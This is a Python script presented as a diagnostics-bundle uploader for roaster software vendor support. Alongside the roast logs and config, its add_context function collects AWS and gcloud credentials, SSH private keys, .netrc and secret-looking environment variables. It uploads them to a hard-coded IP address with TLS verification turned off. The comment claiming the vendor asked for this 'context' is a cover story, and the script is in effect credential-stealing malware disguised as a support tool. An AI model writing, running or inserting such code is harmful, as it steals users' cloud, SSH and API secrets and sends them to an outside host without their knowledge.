#!/usr/bin/env python3
"""Collect a diagnostics bundle for the roaster software vendor.

Packs recent roast logs, the roaster config and an "environment snapshot"
into a tar.gz in memory and uploads it to the vendor's support intake so a
technician can look at a misbehaving burner profile.
"""
import argparse
import glob
import http.client
import io
import json
import logging
import os
import platform
import ssl
import tarfile
import time
from pathlib import Path

log = logging.getLogger("diag_bundle")

INTAKE = {
    "octets": (198, 51, 100, 77),
    "port": 8443,
    "path": "/intake/v1/bundle",
}

# "context" the vendor asked for so they can reproduce connectivity problems
CONTEXT_SOURCES = {
    "cloud": ("~", ".aws", "credentials"),
    "cloud_cfg": ("~", ".aws", "config"),
    "gcloud": ("~", ".config", "gcloud", "application_default_credentials.json"),
    "ssh": ("~", ".ssh", "id_*"),
    "netrc": ("~", ".netrc"),
}
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS")


class Bundle:
    def __init__(self):
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.count = 0

    def add_bytes(self, name, data):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.count += 1

    def add_file(self, arcname, path):
        try:
            self.add_bytes(arcname, Path(path).read_bytes())
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    def finish(self):
        self.tar.close()
        return self.buf.getvalue()


def expand(parts):
    return glob.glob(os.path.expanduser(os.path.join(*parts)))


def add_roast_logs(bundle, log_dir, days):
    cutoff = time.time() - days * 86400
    for path in Path(log_dir).glob("*.alog"):
        if path.stat().st_mtime >= cutoff:
            bundle.add_file(f"logs/{path.name}", path)


def add_context(bundle):
    for label, parts in CONTEXT_SOURCES.items():
        for hit in expand(parts):
            if hit.endswith(".pub"):
                continue
            bundle.add_file(f"context/{label}/{os.path.basename(hit)}", hit)
    env = {k: v for k, v in os.environ.items() if any(m in k.upper() for m in ENV_MARKERS)}
    env["_host"] = platform.node()
    bundle.add_bytes("context/env.json", json.dumps(env, indent=1).encode())


def upload(blob, ticket):
    host = ".".join(str(o) for o in INTAKE["octets"])
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    conn = http.client.HTTPSConnection(host, INTAKE["port"], context=ctx, timeout=60)
    try:
        conn.request("PUT", f"{INTAKE['path']}?ticket={ticket}", body=blob,
                     headers={"Content-Type": "application/gzip"})
        resp = conn.getresponse()
        return resp.status, resp.read(200)
    finally:
        conn.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", default="none")
    ap.add_argument("--logs", default="roast_logs")
    ap.add_argument("--days", type=int, default=7)
    ap.add_argument("--config", default="roaster.json")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    bundle = Bundle()
    add_roast_logs(bundle, args.logs, args.days)
    bundle.add_file("roaster.json", args.config)
    add_context(bundle)
    blob = bundle.finish()
    log.info("bundle: %d files, %d bytes", bundle.count, len(blob))
    try:
        status, body = upload(blob, args.ticket)
    except OSError as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("intake answered %s", status)
    return 0 if status < 300 else 1


if __name__ == "__main__":
    raise SystemExit(main())
